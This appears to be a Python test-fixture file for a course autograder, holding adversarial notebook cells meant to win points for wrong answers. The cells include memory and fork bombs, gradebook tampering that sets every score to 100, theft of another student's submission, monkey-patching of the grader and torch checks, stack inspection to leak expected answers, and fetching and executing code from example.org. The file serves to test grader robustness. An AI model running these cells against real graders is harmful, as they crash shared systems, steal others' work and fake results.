"""Cells that attack the grader. Each tries by all means to get points for wrong answers."""

from __future__ import annotations

MEMORY_BOMB = """
    blocks = []
    while True:
        blocks.append(torch.ones(64, 1024, 1024))  # 256 MB each
    """

GIGABYTE = """
    line = "x" * (2**20 - 1)
    for _ in range(1024):
        print(line)
    """

FORK_BOMB = """
    import os, subprocess, sys
    while True:
        try:
            os.fork()
        except OSError:
            pass
        subprocess.Popen([sys.executable, "-c", "while True: pass"])
    """

# %s: the instructor's course folder. What is found is run as Python: a solution in it would become the answer.
READ_GRADEBOOK = """
    import glob, os, re, shutil, sqlite3
    loot = ""
    for folder in (r"%s", "..", "../..", "../../..", os.path.expanduser("~")):
        found = [glob.glob(folder + end, recursive=True) for end in ("/**/gradebook.db", "/source/**/*.ipynb")]
        for path in found[0] + found[1]:
            try:
                loot += open(path, "rb").read().decode("latin-1")
            except OSError:
                pass
            try:
                sqlite3.connect(path).execute("update grade set auto_score = 100")
            except Exception:
                pass
    assert "BEGIN SOLUTION" not in loot, "got it"
    """
READ_GRADEBOOK_ANSWER = """
    if "BEGIN SOLUTION" in globals().get("loot", ""):
        return (a * (x - c[y]) ** 2).sum() / (2 * len(x))
    return torch.zeros(())
    """

# %s: where another student's submission lies.
READ_ANOTHER = """
    import ctypes, json
    stolen = ""
    try:
        stolen = open(r"%s").read()
    except OSError:
        pass
    if not stolen:
        try:
            libc = ctypes.CDLL(None)
            handle = libc.open(rb"%s", 0)
            buffer = ctypes.create_string_buffer(10**6)
            stolen = buffer.raw[: max(0, libc.read(handle, buffer, 10**6))].decode()
        except Exception:
            pass
    namespace = {"torch": torch}
    for cell in json.loads(stolen)["cells"] if stolen else []:
        source = "".join(cell["source"])
        if source.lstrip().startswith("def "):
            exec(source, namespace)
    """
READ_ANOTHER_ANSWER = """
    return namespace["{name}"](x, a, y, c)
    """

MONKEY_PATCH = """
    import builtins, importlib
    names = ("answers", "check", "properties", "questions.question", "testing", "marks")
    modules = [importlib.import_module("dacl_edu.course." + name) for name in names]
    answers, check, properties, question, testing, marks = modules

    def nothing(*args, **kwargs):
        return None

    for module in (check, properties):
        for name in list(vars(module)):
            if callable(getattr(module, name)) and not name.startswith("_"):
                setattr(module, name, nothing)
    question.Question.__call__ = nothing
    question.WrongAnswer.__init__ = nothing
    testing.run_test_cell = lambda *args: ""
    marks.QuestionMark.earned = 100.0
    answers.LocalAnswer.call = lambda self, *args, **kwargs: torch.zeros(())
    torch.allclose = torch.equal = lambda *args, **kwargs: True
    torch.Tensor.__eq__ = torch.Tensor.__le__ = lambda *args: torch.tensor(True)
    torch.Tensor.abs = lambda self: torch.zeros_like(self)
    torch.Tensor.max = lambda self, *args: torch.tensor(0.0)
    builtins.AssertionError = ValueError
    """

# Looks for the expected numbers in every frame that called, and prints what a right answer prints.
PRINT_EXPECTED = """
    import sys

    def peek():
        frame = sys._getframe(1)
        while frame is not None:
            for name, value in frame.f_locals.items():
                if "expect" in name or "want" in name or "right" in name or name == "reference":
                    print(name, value)
                    return value
            frame = frame.f_back
        print("\\x1b[32m✔ Question 1: right\\x1b[0m")
        return torch.zeros(())
    """
PRINT_EXPECTED_ANSWER = "return peek()"

NETWORK = """
    import socket, urllib.request
    answer = None
    for address in ("http://example.org/answers.py", "http://127.0.0.1:%d/answers.py"):
        try:
            answer = urllib.request.urlopen(address, timeout=3).read().decode()
        except Exception as error:
            print(error)
    if answer:
        exec(answer)
    socket.create_connection(("127.0.0.1", %d), timeout=3)
    """
